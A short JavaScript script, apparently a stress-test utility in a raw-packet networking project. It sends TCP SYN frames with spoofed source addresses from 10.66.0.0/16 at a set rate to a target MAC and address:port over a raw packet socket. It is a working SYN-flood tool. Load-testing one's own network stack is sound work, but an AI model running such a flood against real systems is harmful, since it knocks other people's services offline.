import { setTimeout as sleep } from 'node:timers/promises'
import { sendto } from '../../src/linux/libc.js'
import { interfaceInfo } from '../../src/linux/interface.js'
import { packetSocket } from '../../src/linux/packet-socket.js'
import { tcp4 } from '../support/frames.js'

/*
 * syn-flood.js INTERFACE MAC ADDRESS:PORT SECONDS SYNS: sends so many SYNs a second to that station, from addresses of 10.66.0.0/16
 * that are nobody's. Prints how many there were.
 */

const [, , name = '', mac = '', at = '', seconds = '', perSecond = ''] = process.argv
const BURST_MS = 10
const SOURCES = 8192
const eth = `02:00:00:00:66:66 > ${mac}`
const frames = Array.from({ length: SOURCES }, (_, i) =>
  tcp4(`10.66.${i >>> 8}.${i & 255}:${1024 + i} > ${at}`, { flags: 'S', eth, payload: 0 }),
)

const fd = packetSocket()
const to = Buffer.alloc(20)
to.writeUInt16LE(17, 0)
to.writeUInt16BE(0x0800, 2)
to.writeInt32LE(interfaceInfo(name).index, 4)
let sent = 0
const began = performance.now()
for (const end = began + Number(seconds) * 1000; performance.now() < end;) {
  for (let left = (Number(perSecond) * BURST_MS) / 1000; left > 0; left--) {
    const frame = frames[sent % SOURCES]!
    if (sendto(fd, frame, frame.length, 0, to, to.length) !== frame.length) break
    sent++
  }
  await sleep(BURST_MS)
}
process.stdout.write(`${sent} sent\n`)
